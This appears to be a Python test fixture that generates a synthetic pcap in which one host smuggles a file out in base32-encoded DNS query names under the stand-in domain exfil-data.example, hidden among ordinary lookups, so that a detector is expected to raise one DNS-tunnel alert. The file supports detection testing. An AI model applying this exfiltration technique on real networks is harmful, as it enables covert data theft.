"""pcaps/dns_tunnel.pcap (issue scenario 5): 10.40.0.66 smuggles a file out in DNS query names
(150 base32 labels under t.exfil-data.example, never repeated), while 30 hosts of 10.40.1.0/24
do ordinary lookups (search engines, CDNs, cloud APIs, office suites, S3 buckets), some of them
with long or random-looking labels. Expected: exactly one exfil.dns_tunnel alert, for
10.40.0.66 under exfil-data.example.
"""
import base64
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.dirname(HERE))

import pcapgen  # noqa: E402

RESOLVER = "10.0.0.53"
T0 = 1709290000.0
ORDINARY = ["www.google.com", "d1a2b3c4d5e6f7.cloudfront.net", "e1234.a.akamaiedge.net", "outlook.office365.com",
            "login.microsoftonline.com", "api.github.com", "my-company-backups.s3.eu-west-3.amazonaws.com",
            "fonts.gstatic.com", "www.service-public.fr", "connect.facebook.net", "r3.o.lencr.org",
            "prod-eu-west-1-lb-1234567890.eu-west-1.elb.amazonaws.com", "clients4.google.com",
            "safebrowsing.googleapis.com", "teams.microsoft.com", "cdn.jsdelivr.net", "www.francetravail.fr",
            "update.googleapis.com", "ocsp.digicert.com", "a1887.dscq.akamai.net"]



def build(outdir):
    rng = random.Random(5)
    frames = []

    def lookup(client, sport, t, qid, name):
        for src, dst, sp, dp, payload in ((client, RESOLVER, sport, 53, pcapgen.dns_query(qid, name)),
                                          (RESOLVER, client, 53, sport, pcapgen.dns_answer_a(qid, name))):
            fr = pcapgen.ether(pcapgen.ipv4(src, RESOLVER if dst == RESOLVER else dst, 17,
                                            pcapgen.udp(src, dst, sp, dp, payload)))
            frames.append((t, fr, len(fr)))
            t += 0.002

    secret = bytes(rng.randrange(256) for _ in range(150 * 25))
    for i in range(150):
        label = base64.b32encode(secret[i * 25:(i + 1) * 25]).decode().rstrip("=").lower()
        lookup("10.40.0.66", 30000 + i, T0 + 10 * i, i, "%s.%d.t.exfil-data.example" % (label, i))
    for h in range(30):
        for k in range(20):
            lookup("10.40.1.%d" % (h + 1), 40000 + k, T0 + 5 + 50 * k + h, 1000 + k, rng.choice(ORDINARY))
    frames.sort(key=lambda f: f[0])
    with pcapgen.PcapWriter(os.path.join(outdir, "dns_tunnel.pcap")) as w:
        for ts, fr, wire in frames:
            w.add(ts, fr, wire)
